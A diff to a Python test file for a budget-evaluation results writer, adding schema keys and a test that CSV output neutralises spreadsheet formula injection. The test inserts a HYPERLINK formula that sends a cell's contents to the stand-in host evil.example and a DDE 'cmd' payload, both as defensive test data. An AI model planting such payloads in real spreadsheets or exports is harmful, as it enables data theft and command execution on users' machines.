@@ -33,10 +33,12 @@ RECORD_KEYS = {
     "schema", "unit_id", "year", "key", "status", "error", "html", "unit_name", "kind", "rulebook",
     "total", "grade", "execution_rate", "execution_weight", "execution_score", "reported_total",
     "reported_grade", "findings", "indicators",
+    "budget_initial", "budget_adjustment", "budget_final", "budget_actual", "execution_weight_set",
 }  # fmt: skip
 INDICATOR_KEYS = {
     "indicator", "level1", "level2", "op", "target", "target_adjusted", "unit", "actual",
     "completion", "weight", "score", "applicable", "grade",
+    "deduction", "assessed_score", "grade_set", "weight_set",
 }  # fmt: skip
 DECIMAL = pd.ArrowDtype(pa.decimal128(28, 6))
 
@@ -283,3 +285,38 @@ def test_docstring_examples_run(monkeypatch):
 def test_results_path_type_accepts_str(records, tmp_path):
     write_results(str(tmp_path), records[:1])
     assert Path(tmp_path, "results.csv").is_file()
+
+
+# --------------------------------------------------------------------------- formula injection
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_neutralises_formula_leading_text_and_parquet_stays_exact(tmp_path, lead):
+    loaded = load_unit_year(discover(PARAMS, unit="xinshi-rd", year=2023)[0])
+    record = unit_year_record(loaded, loaded.evaluate(), [], html="2023/xinshi-rd.html")
+    hostile = f'{lead}HYPERLINK("http://evil.example/?x="&A1,"点此")'
+    record["unit_name"] = hostile
+    record["indicators"][0]["indicator"] = f"{lead}cmd|' /C calc'!A0"
+    parquet, csv_path = write_results(tmp_path, [record])
+
+    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert {row["unit_name"] for row in rows} == {"'" + hostile}
+    assert rows[1]["indicator"] == f"'{lead}cmd|' /C calc'!A0"
+    for row in rows:  # no text cell of the CSV starts a formula; negative figures stay numbers
+        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values() if value)
+
+    table = read_results(tmp_path)  # the Parquet file keeps the text exactly
+    assert set(table["unit_name"]) == {hostile}
+    assert table.loc[1, "indicator"] == f"{lead}cmd|' /C calc'!A0"
+
+
+def test_csv_keeps_ordinary_text_and_negative_figures(tmp_path):
+    loaded = load_unit_year(discover(PARAMS, unit="xinshi-rd", year=2023)[0])
+    record = unit_year_record(loaded, loaded.evaluate(), [])
+    record["indicators"][0]["actual"] = "-3.5"
+    _, csv_path = write_results(tmp_path, [record])
+    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert rows[1]["actual"] == "-3.5"
+    assert rows[0]["unit_name"] == "乌鲁木齐市新市区人民代表大会常务委员会"
